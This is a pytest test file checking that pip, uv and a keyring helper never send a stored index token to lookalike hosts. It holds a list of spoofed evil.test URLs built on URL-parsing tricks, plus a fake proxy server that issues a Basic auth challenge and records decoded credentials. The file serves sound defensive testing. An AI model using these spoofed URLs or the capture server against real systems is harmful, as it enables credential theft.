"""An index URL that only looks like ours, in a requirements file, never gets the token."""

from __future__ import annotations

import base64
import socketserver
import threading
from collections.abc import Iterator

import pytest

from clients import provision
from clients.harness import USER, Done, Job, uv

SHAPES = [
    "http://127.0.0.1.evil.test/private/latest/simple/",
    "http://127.0.0.1.evil.test:{port}/private/latest/simple/",
    "http://127.0.0.1:{port}.evil.test/private/latest/simple/",
    "http://127.0.0.1:{port}@evil.test/private/latest/simple/",
    "http://__token__@127.0.0.1:{port}@evil.test/private/latest/simple/",
    "http://evil.test/127.0.0.1:{port}/private/latest/simple/",
    "http://evil.test#@127.0.0.1:{port}/private/latest/simple/",
    "http://evil.test?@127.0.0.1:{port}/private/latest/simple/",
    "http://evil.test\\@127.0.0.1:{port}/private/latest/simple/",
    "http://127.0.0.1:{port}\\.evil.test/private/latest/simple/",
    "http://127.0.0.1:1/private/latest/simple/",
]


class Evil(socketserver.ThreadingTCPServer):
    """Whatever host it is asked for as a proxy, it wants a password, and notes what it is sent."""

    allow_reuse_address = True
    daemon_threads = True

    def __init__(self) -> None:
        self.lines: list[str] = []
        self.sent: list[str] = []
        super().__init__(("127.0.0.1", 0), _Challenge)


class _Challenge(socketserver.StreamRequestHandler):
    timeout = 10
    server: Evil

    def handle(self) -> None:
        for raw in iter(self.rfile.readline, b""):
            line = raw.decode("latin-1").strip()
            if not line:
                break
            name, _, value = line.partition(": ")
            if name.lower() in ("authorization", "proxy-authorization"):
                self.server.sent.append(base64.b64decode(value.split()[-1]).decode("latin-1"))
            self.server.lines.append(line)
        self.wfile.write(
            b"HTTP/1.1 401 Unauthorized\r\n"
            b'WWW-Authenticate: Basic realm="Posit Package Manager"\r\n'
            b"Content-Length: 0\r\nConnection: close\r\n\r\n"
        )


@pytest.fixture
def evil(job: Job) -> Iterator[Evil]:
    """Every name but this machine's leads to the one that wants a password."""
    with Evil() as server:
        threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
        address = f"http://127.0.0.1:{server.server_address[1]}"
        for name in ("HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy"):
            job.env[name] = address
        yield server
        server.shutdown()


def warmed(job: Job) -> str:
    """The token, now in the store, where a leak needs no exchange."""
    return job.keyring("get", job.index, USER).succeeded().out.strip()


def hostile(job: Job, shape: str) -> str:
    return shape.format(port=job.host.partition(":")[2])


def pip_with(job: Job, index: str, mode: str) -> Done:
    """pip with a requirements file of somebody else's."""
    requirements = job.folder / "requirements.txt"
    # Otherwise pip wouldn't ask a host over plain http at all; such a file may well say so.
    trusted = "--trusted-host evil.test\n--trusted-host 127.0.0.1.evil.test\n"
    requirements.write_text(f"{trusted}--index-url {index}\ngatepass-hello\n", encoding="utf-8")
    environment = "pip-latest" if mode == "import" else "bare-pip-latest"
    words = ("install", "--no-input", "--retries=0", "--keyring-provider", mode)
    where = ("--target", job.folder / "site", "-r", requirements)
    program = provision.program(environment, "python")
    return job.run(program, "-m", "pip", *words, *where, path=["keyring"])


@pytest.mark.parametrize("mode", ["import", "subprocess"])
@pytest.mark.parametrize("shape", SHAPES[:6])
def test_pip_never_sends_the_token(job: Job, evil: Evil, shape: str, mode: str) -> None:
    """pip asks keyring for the host that challenged it, and has nothing to send."""
    token = warmed(job)
    pip_with(job, hostile(job, shape), mode).failed()
    assert not any(token in sent for sent in evil.sent)
    if ":{port}.evil" not in shape:  # that one is no URL to pip
        assert evil.lines
        # With a password in the URL pip asks nobody; without one it did ask.
        assert bool(job.asked) is (mode == "subprocess" and "@" not in shape)
    assert job.exchanges() == 1


@pytest.mark.parametrize("shape", SHAPES[:6])
def test_uv_never_sends_the_token(job: Job, evil: Evil, shape: str) -> None:
    """uv asks keyring before any request where the URL has a user name."""
    token = warmed(job)
    index = hostile(job, shape)
    if "@" not in index:
        index = index.replace("://", f"://{USER}@")
    requirements = job.folder / "requirements.txt"
    requirements.write_text(f"--index-url {index}\ngatepass-hello\n", encoding="utf-8")
    where = ("--python", provision.program("bare-pip-latest", "python"))
    target = ("--target", job.folder / "site", "-r", requirements)
    uv(job, "pip", "install", *where, *target, UV_HTTP_RETRIES="0").failed()
    assert not any(token in sent for sent in evil.sent)
    assert job.exchanges() == 1


def test_the_trap_catches_what_is_sent(job: Job, evil: Evil) -> None:
    """Without this the tests above could pass for the wrong reason."""
    pip_with(job, "http://alice:sesame@evil.test/simple/", "import").failed()
    assert "alice:sesame" in evil.sent


@pytest.mark.parametrize("shape", SHAPES)
def test_keyring_prints_nothing(job: Job, shape: str) -> None:
    """Asked itself, with the token in the store: status 1 and not a word."""
    warmed(job)
    for words in (("get", hostile(job, shape), USER), ("--mode=creds", "get", hostile(job, shape))):
        done = job.keyring(*words)
        assert (done.status, done.text) == (1, "")
    assert job.exchanges() == 1
